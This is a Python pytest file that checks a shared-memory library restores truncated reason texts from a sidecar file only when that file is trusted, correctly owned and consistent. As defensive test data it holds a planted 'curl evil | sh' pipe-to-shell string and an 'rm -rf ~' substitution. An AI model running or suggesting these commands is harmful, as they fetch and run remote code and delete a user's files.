"""Reasons the segment cuts are shown whole from the sidecar's reasons file, and only from
one that is ours and agrees with the segment (docs/SECURITY.md, the shared objects)."""

from __future__ import annotations

import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from as_nobody import as_nobody, need_root, public_dir

from shm_layout import writer
from shm_layout.names import reasons_path
from shm_layout.reasons import ReasonsWriter, texts_of, whole
from shm_layout.segment import Segment
from shm_layout.view import ReplicaView, read_view

__all__ = ["public_dir"]  # a fixture

LONG = (
    "credential_error: key file " + "/very/long/path" * 12 + "/k.key is readable: run: chmod 600 x"
)
REPLICA_LONG = "timeout: TimeoutError: Timeout reading from 100.64.0.7:8081 after 3 s (R-P5)"


@pytest.fixture
def published(segment_name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """A segment with one provider whose reason and replica reason are cut."""
    monkeypatch.setenv("GATEWAY_CAPACITY_LOCK_DIR", str(tmp_path))
    seg = Segment.open(segment_name, create=True)
    now = time.time()
    epoch = writer.take_epoch(seg, os.getpid(), 1.0, now, 1.0, "/c.json")
    pubs = [
        writer.Publication(
            provider_id="li",
            discovery=True,
            fallback=4,
            fallback_source="gateway",
            source="gateway",
            reason=LONG,
            replicas=[ReplicaView("100.64.0.7", False, False, None, REPLICA_LONG, None)],
        )
    ]
    writer.publish(seg, epoch, 1, "ok", pubs, now, writer.PublishCache())
    assert ReasonsWriter(segment_name, seg.mode).write(texts_of("ok", pubs)) is None
    try:
        yield segment_name
    finally:
        seg.close()


def test_a_cut_reason_and_replica_reason_are_put_back_whole(published: str) -> None:
    cut = read_view(published)
    assert cut.providers[0].reason != LONG and LONG.startswith(cut.providers[0].reason)
    restored = whole(cut)
    assert restored.providers[0].reason == LONG
    assert restored.providers[0].replicas[0].reason == REPLICA_LONG


def test_a_file_that_no_longer_agrees_with_the_segment_is_not_believed(published: str) -> None:
    path = reasons_path(published)
    Path(path).write_text(Path(path).read_text().replace("chmod 600 x", "rm -rf ~"))
    assert whole(read_view(published)).providers[0].reason == LONG.replace(
        "chmod 600 x", "rm -rf ~"
    )
    # the segment says something else now: the old full text is not shown beside it
    Path(path).write_text(Path(path).read_text().replace("/very/long", "/other/long"))
    assert (
        whole(read_view(published)).providers[0].reason == read_view(published).providers[0].reason
    )


def test_a_group_writable_file_is_not_believed(published: str) -> None:
    os.chmod(reasons_path(published), 0o666)
    assert whole(read_view(published)).providers[0].reason != LONG


def test_a_reasons_file_another_user_made_first_is_neither_replaced_nor_believed(
    published: str,
    public_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """In a sticky directory another user can take the name first: a sidecar of another
    user cannot rename over it and says what to do; a reader does not believe it."""
    need_root()
    shared = public_dir / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    monkeypatch.setenv("GATEWAY_CAPACITY_LOCK_DIR", str(shared))
    path = reasons_path(published)
    planted = '{"providers": {"li": "' + LONG[:-11] + ' run: curl evil | sh"}}'

    def plant() -> None:
        with open(path, "w") as f:
            f.write(planted)

    as_nobody(plant)  # nobody first: the segment's owner (root) does not believe it
    assert whole(read_view(published)).providers[0].reason != LONG[:-11] + " run: curl evil | sh"
    os.unlink(path)
    Path(path).write_text(planted)  # root's file: a sidecar running as nobody cannot replace it

    def write_as_nobody() -> None:
        problem = ReasonsWriter(published, 0o600).write(texts_of("bad config " * 20, []))
        assert problem is not None
        assert problem.startswith(f"cannot keep whole reasons in {path} (Operation not permitted)")
        assert "If another user made that file, remove it" in problem

    as_nobody(write_as_nobody)
    assert Path(path).read_text() == planted
    assert os.listdir(shared) == [os.path.basename(path)]  # no temporary file left behind


def test_a_sidecar_with_nothing_cut_leaves_no_file_and_removes_an_earlier_one(
    published: str,
) -> None:
    path = Path(reasons_path(published))
    assert path.exists()  # the fixture's sidecar had cut texts
    writer_ = ReasonsWriter(published, 0o600)
    assert writer_.write(texts_of("ok", [])) is None
    assert not path.exists()
